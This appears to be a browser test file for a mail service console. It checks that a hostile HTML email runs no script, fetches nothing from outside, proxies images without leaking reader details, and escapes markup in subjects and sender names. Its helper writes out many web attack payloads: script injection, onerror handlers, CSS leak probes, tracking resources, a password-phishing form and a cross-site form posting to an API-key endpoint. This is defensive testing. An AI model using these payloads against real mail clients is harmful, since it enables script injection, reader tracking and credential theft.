// HTML mail that tries to run scripts, fetch resources, submit forms and imitate the console: none of it succeeds.

import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, suite, test } from 'node:test'
import type { Inbox } from '@mailroom/sdk'
import {
  type ConsoleWorld,
  foreignRequests,
  htmlMail,
  openConsoleWorld,
} from '#test/browser/console-world.ts'

/** A one by one PNG. */
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=',
  'base64',
)

suite('hostile HTML in the console', () => {
  let world: ConsoleWorld
  let trap: Server
  let trapUrl = ''
  const trapped: { path: string; headers: string }[] = []
  let inbox: Inbox

  before(async () => {
    trap = createServer((request, response) => {
      trapped.push({ path: request.url ?? '', headers: JSON.stringify(request.headers) })
      response.writeHead(200, { 'content-type': 'image/png', 'access-control-allow-origin': '*' })
      response.end(PIXEL)
    }).listen(0, '127.0.0.1')
    await once(trap, 'listening')
    trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`
    world = await openConsoleWorld()
    inbox = await world.client.inboxes.create({ mailboxName: 'target' })
    await world.deliver(
      inbox.address,
      htmlMail({ subject: 'You have won', html: hostileHtml(trapUrl, world.service.baseUrl) }),
    )
    await world.signIn(`/console/inboxes/${inbox.id}`)
  })
  after(async () => {
    trap.close()
    trap.closeAllConnections()
    await world.close()
  })

  test('reading it runs no script and fetches nothing', async () => {
    const { page } = world
    await page.getByRole('link', { name: /You have won/ }).click()
    const frame = page.frameLocator('.mail-frame iframe')
    await frame.getByText('Claim your prize').waitFor()
    await page.waitForTimeout(1_500)
    assert.deepEqual(trapped, [])
    assert.deepEqual(foreignRequests(world), [])
    assert.equal(await page.title(), 'You have won · Mailroom')
    assert.equal(new URL(page.url()).origin, world.service.baseUrl)
    assert.equal(await page.evaluate(() => 'pwned' in globalThis), false)
    assert.equal(world.browser.context.pages().length, 1)
  })

  test('its forms and links do not leave the frame by themselves', async () => {
    const { page } = world
    const frame = page.frameLocator('.mail-frame iframe')
    assert.equal(
      await frame.locator('form, script, object, embed, iframe, base, meta[http-equiv]').count(),
      0,
    )
    const button = frame.getByText('Send it now')
    if ((await button.count()) > 0)
      await button
        .first()
        .click({ timeout: 2_000 })
        .catch(() => {})
    await page.waitForTimeout(500)
    assert.deepEqual(trapped, [])
  })

  test('images that the reader asks for come through the service, which tells the sender nothing about the reader', async () => {
    const { page } = world
    await page.getByRole('button', { name: 'Show images' }).click()
    const frame = page.frameLocator('.mail-frame iframe')
    await frame.getByText('Claim your prize').waitFor()
    const image = frame.locator('img[alt="banner"]')
    await image.waitFor()
    for (let tries = 0; tries < 40 && trapped.length === 0; tries++) await page.waitForTimeout(250)
    assert.ok(trapped.some(({ path }) => path === '/banner.png'))
    const width = await image.evaluate((element) => Reflect.get(element, 'naturalWidth'))
    assert.equal(width, 1, 'the image is shown')
    assert.ok(trapped.every(({ headers }) => !/cookie|referer|mozilla/i.test(headers)))
    assert.deepEqual(foreignRequests(world), [])
  })

  test('markup in a subject or a name is shown as text', async () => {
    const { page } = world
    const name = '"<img src=x onerror=alert(1)>" <eve@stranger.example>'
    await world.deliver(
      inbox.address,
      htmlMail({ subject: '<script>document.title="x"</script>', html: '<p>Hi</p>', from: name }),
    )
    await page.getByText('<script>document.title="x"</script>').first().waitFor()
    await page.getByText('<img src=x onerror=alert(1)>').first().waitFor()
    assert.equal(await page.locator('.mail-list img').count(), 0)
  })
})

function hostileHtml(trap: string, service: string): string {
  return `<html><head>
<meta http-equiv="refresh" content="0;url=${trap}/refresh">
<base href="${trap}/base/">
<link rel="stylesheet" href="${trap}/sheet.css"><link rel="preload" as="image" href="${trap}/preload.png">
<link rel="dns-prefetch" href="${trap}"><link rel="icon" href="${trap}/icon.png">
<style>@import url("${trap}/import.css"); @font-face { font-family: x; src: url(${trap}/font.woff) }
body { background: url("${trap}/css.png"); font-family: x } p[title^="a"] { background: url(${trap}/leak?a) }
li { list-style-image: url(${trap}/li.png) } .c { cursor: url(${trap}/cursor.cur), auto; content: url(${trap}/content.png) }</style>
<script>parent.pwned = 1; top.document.title = 'pwned'; fetch('${trap}/fetch')</script>
<script src="${trap}/script.js"></script></head>
<body background="${trap}/body.png" onload="top.pwned=1">
<h1>Claim your prize</h1><p title="abc" class="c">Click below.</p>
<img alt="banner" src="${trap}/banner.png" onerror="top.pwned=1"><img src="x" onerror="parent.pwned=1">
<img alt="set" srcset="${trap}/set.png 1x, ${trap}/set2.png 2x">
<picture><source srcset="${trap}/picture.png"><img alt="p" src="${trap}/picture-img.png"></picture>
<video poster="${trap}/poster.png" src="${trap}/video.mp4" autoplay></video><audio src="${trap}/audio.mp3" autoplay></audio>
<svg xmlns="http://www.w3.org/2000/svg"><script>top.pwned=1</script><image href="${trap}/svg.png" xlink:href="${trap}/svg2.png"/><use href="${trap}/use.svg#a"/></svg>
<object data="${trap}/object"></object><embed src="${trap}/embed"><iframe src="${trap}/iframe"></iframe><iframe srcdoc="<script>top.pwned=1</script>"></iframe>
<form action="${trap}/form" method="post"><input name="password" autofocus><button>Send it now</button></form>
<form action="${service}/v1/api-keys" method="post"><input type="submit" value="Send it now"></form>
<a href="javascript:top.pwned=1">script link</a><a href="${trap}/ping" ping="${trap}/ping2">link</a>
<table background="${trap}/table.png"><tr><td background="${trap}/td.png" style="background:url(${trap}/td-style.png)">cell</td></tr></table>
<div style="position:fixed;inset:0;background-image:image-set(url(${trap}/set3.png) 1x)">cover</div>
<ul><li>item</li></ul></body></html>`
}
